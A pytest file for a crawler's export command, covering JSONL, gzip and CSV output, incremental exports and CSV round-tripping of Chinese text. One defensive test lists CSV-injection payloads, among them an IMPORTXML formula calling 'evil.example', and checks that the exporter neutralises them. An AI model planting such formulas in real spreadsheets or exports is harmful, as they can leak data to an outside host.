"""Exports: whole or incremental (--since, --changed), gzip, other tables; atomic, valid, ordered."""

from __future__ import annotations

import csv
import gzip
import io
import json
import shutil
import sqlite3

import pytest

from xzcrawler.core.validate import schema
from xzcrawler.store import SqliteStore

from .conftest import cli


@pytest.fixture()
def archive_copy(mirror_archive, tmp_path):
    _, path = mirror_archive
    copy = tmp_path / "archive.db"
    shutil.copy(path, copy)
    return copy


def lines(path):
    opener = gzip.open if str(path).endswith(".gz") else open
    with opener(path, "rt", encoding="utf-8") as fh:
        return [json.loads(line) for line in fh]


def test_gzip_export_is_the_same_records(archive_copy, tmp_path, schema_validator):
    plain, zipped = tmp_path / "a.jsonl", tmp_path / "a.jsonl.gz"
    assert cli("export", "--db", str(archive_copy), "--out", str(plain)).returncode == 0
    assert cli("export", "--db", str(archive_copy), "--out", str(zipped), "--gzip").returncode == 0
    records = lines(plain)
    assert records == lines(zipped) and len(records) == 300
    assert all(not list(schema_validator.iter_errors(r)) for r in records)
    assert [r["article_id"] for r in records] == sorted(r["article_id"] for r in records)


@pytest.mark.parametrize(
    ("table", "key"),
    [
        ("related_links", ("article_id", "position")),
        ("view_snapshots", ("article_id", "observed_at", "id")),
        ("revisions", ("article_id", "revision")),
    ],
)
def test_other_tables(archive_copy, tmp_path, table, key):
    out = tmp_path / f"{table}.jsonl"
    result = cli("export", "--db", str(archive_copy), "--table", table, "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = lines(out)
    count = sqlite3.connect(archive_copy).execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
    assert len(rows) == count > 0
    keys = [tuple(r[k] for k in key) for r in rows]
    assert keys == sorted(keys)
    if table == "revisions":
        assert isinstance(rows[0]["related"], list)


def test_changed_exports_only_what_changed_since_the_last_export(archive_copy, tmp_path):
    out = tmp_path / "changed.jsonl"
    archive_bytes = archive_copy.read_bytes()
    first = cli("export", "--db", str(archive_copy), "--changed", "--out", str(out))
    assert first.returncode == 0 and len(lines(out)) == 300  # no export yet: everything
    # an export reads the archive only: its marks are kept beside the file it wrote (issue 30)
    assert archive_copy.read_bytes() == archive_bytes
    assert json.loads((tmp_path / "changed.jsonl.marks.json").read_text("utf-8"))["table"] == "articles"
    assert cli("export", "--db", str(archive_copy), "--changed", "--out", "-").returncode != 0
    plain = cli("export", "--db", str(archive_copy), "--out", str(tmp_path / "adhoc.jsonl"))
    assert plain.returncode == 0  # an ad-hoc export does not move the --changed baseline
    again = cli("export", "--db", str(archive_copy), "--changed", "--out", str(out))
    assert "exported 0 articles rows" in again.stdout and lines(out) == []
    with SqliteStore(archive_copy) as archive:  # one article is edited, another gains views
        edited, viewed = [dict(r) for r in archive.iter_articles(" WHERE article_id IN (168, 169)")]
        edited.update(body_text=edited["body_text"] + "（更正）", fetched_at="2099-01-01T00:00:00Z")
        archive.add_article(edited)
        archive.observe_listing(
            viewed["site"], [{"article_id": 169, "views": (viewed["views"] or 0) + 5}], "2099-01-01T00:00:00Z"
        )
    third = cli("export", "--db", str(archive_copy), "--changed", "--out", str(out))
    assert third.returncode == 0
    assert [r["article_id"] for r in lines(out)] == [168, 169]
    fourth = cli("export", "--db", str(archive_copy), "--changed", "--out", str(out))
    assert "exported 0 articles rows" in fourth.stdout  # within the same second too: marks, not times
    since = cli(
        "export",
        "--db",
        str(archive_copy),
        "--since",
        "2098-12-31T00:00:00Z",
        "--table",
        "revisions",
        "--out",
        str(out),
    )
    assert since.returncode == 0 and [(r["article_id"], r["changed_fields"]) for r in lines(out)] == [
        (168, ["body_text"])
    ]


def test_bad_since_is_a_clear_error(archive_copy, tmp_path):
    result = cli("export", "--db", str(archive_copy), "--since", "last tuesday", "--out", str(tmp_path / "x.jsonl"))
    assert result.returncode != 0 and "not an ISO 8601 time" in result.stderr
    assert not (tmp_path / "x.jsonl").exists()


# -- CSV: for spreadsheets -------------------------------------------------------------------------
def read_csv(path):
    """Rows as Python's csv module reads them, after checking the file starts with one BOM."""
    opener = gzip.open if str(path).endswith(".gz") else open
    with opener(path, "rb") as fh:
        raw = fh.read()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def from_cell(value: str, spec: dict):
    """Undo the documented joining: empty is None (or an empty list), a list of strings one item
    per line, a list of objects JSON text, integers as digits."""
    types = spec["type"] if isinstance(spec["type"], list) else [spec["type"]]
    if "array" in types:
        if spec["items"].get("type") == "string":
            return value.split("\n") if value else []
        return json.loads(value) if value else []
    if value == "" and "null" in types:
        return None
    if "boolean" in types:
        return {"true": True, "false": False}[value]
    return int(value) if "integer" in types else value


def test_csv_export_is_one_row_per_article_and_round_trips(archive_copy, tmp_path):
    jsonl, table = tmp_path / "a.jsonl", tmp_path / "a.csv"
    assert cli("export", "--db", str(archive_copy), "--out", str(jsonl)).returncode == 0
    result = cli("export", "--db", str(archive_copy), "--out", str(table))  # the name says csv
    assert result.returncode == 0 and "exported 300 articles rows" in result.stdout, result.stderr
    header, *rows = read_csv(table)
    # the package's record contract (a superset of the shared one), and the family each belongs to
    properties = {**schema()["properties"], "family_id": {"type": ["string", "null"]}}
    assert header == list(properties)
    records = lines(jsonl)
    assert len(rows) == len(records) == 300
    assert any("\n" in r[header.index("body_text")] for r in rows)  # multi-line cells survive
    assert any(len(r["keywords"]) > 1 for r in records) and any(r["related"] for r in records)
    for row, record in zip(rows, records, strict=True):
        assert {name: from_cell(cell, properties[name]) for name, cell in zip(header, row, strict=True)} == {
            name: record.get(name) for name in header
        }


def test_csv_cells_keep_chinese_quotes_commas_and_lines(tmp_path):
    from xzcrawler.core.formats import FORMATS, csv_cell

    records = [
        {"title": '徐州"厂房", 出租', "keywords": ["厂房", "徐州,铜山"], "related": [{"url": "u", "title": "标题"}]},
        {"title": "第一行\n第二行\r\n第三行", "keywords": [], "related": [], "views": None},
    ]
    columns = ["title", "keywords", "related", "views"]
    for name in ("x.csv", "x.csv.gz"):
        out = tmp_path / name
        from xzcrawler.store.export import write_export

        assert write_export(records, out, "csv", columns, compress=name.endswith(".gz")) == 2
        header, *rows = read_csv(out)
        assert header == columns
        assert rows == [[str(csv_cell(r.get(c))) for c in columns] for r in records]
        assert rows[0][:2] == ['徐州"厂房", 出租', "厂房\n徐州,铜山"] and rows[1][3] == ""
        assert json.loads(rows[0][2]) == [{"url": "u", "title": "标题"}]
    empty = tmp_path / "empty.csv"
    assert FORMATS["csv"]([], open(empty, "wb"), columns) == 0
    assert read_csv(empty) == [columns]  # a header, even for nothing


@pytest.mark.parametrize("table", ["related_links", "view_snapshots", "revisions"])
def test_csv_of_other_tables_has_every_row_and_column(archive_copy, tmp_path, table):
    out = tmp_path / f"{table}.csv.gz"
    result = cli("export", "--db", str(archive_copy), "--table", table, "--format", "csv", "--gzip", "--out", str(out))
    assert result.returncode == 0, result.stderr
    header, *rows = read_csv(out)
    db = sqlite3.connect(archive_copy)
    assert len(rows) == db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0] > 0
    columns = [d[0] for d in db.execute(f"SELECT * FROM {table} LIMIT 0").description]
    assert header == [c for c in columns if c != "mark"]
    assert rows == [r for r in rows if len(r) == len(header)]


def test_csv_format_names_the_default_file(archive_copy, tmp_path):
    result = cli("export", "--db", str(archive_copy), "--format", "csv", "--table", "revisions", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "to exports/revisions.csv" in result.stdout and read_csv(tmp_path / "exports" / "revisions.csv")


FORMULAS = ['=IMPORTXML("http://evil.example","//a")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_text_unless_raw(tmp_path):
    """OWASP's CSV injection: a cell beginning with = + - @ (or a tab or CR) is run by Excel and
    LibreOffice; the export puts a ' before it, and --raw writes it as stored (issue 29, item 5)."""
    from xzcrawler.store.export import write_export

    records = [
        {"category": text, "title": "正常的标题", "views": -1 if k == 0 else k} for k, text in enumerate(FORMULAS)
    ]
    columns = ["category", "title", "views"]
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert write_export(records, safe, "csv", columns) == write_export(records, raw, "csv", columns, raw=True) == 6
    _, *safe_rows = read_csv(safe)
    _, *raw_rows = read_csv(raw)
    assert [row[0] for row in safe_rows] == ["'" + text for text in FORMULAS]
    assert [row[0] for row in raw_rows] == FORMULAS
    assert {row[1] for row in safe_rows} == {"正常的标题"}  # other text is left alone
    assert safe_rows[0][2] == "-1"  # numbers are numbers, not text that looks like a formula


def test_export_raw_is_a_flag_of_the_command(mirror_archive, tmp_path):
    _, archive = mirror_archive
    out = tmp_path / "a.csv"
    result = cli("export", "--db", str(archive), "--out", str(out), "--raw")
    assert result.returncode == 0, result.stderr
    assert "--raw" in cli("export", "--help").stdout
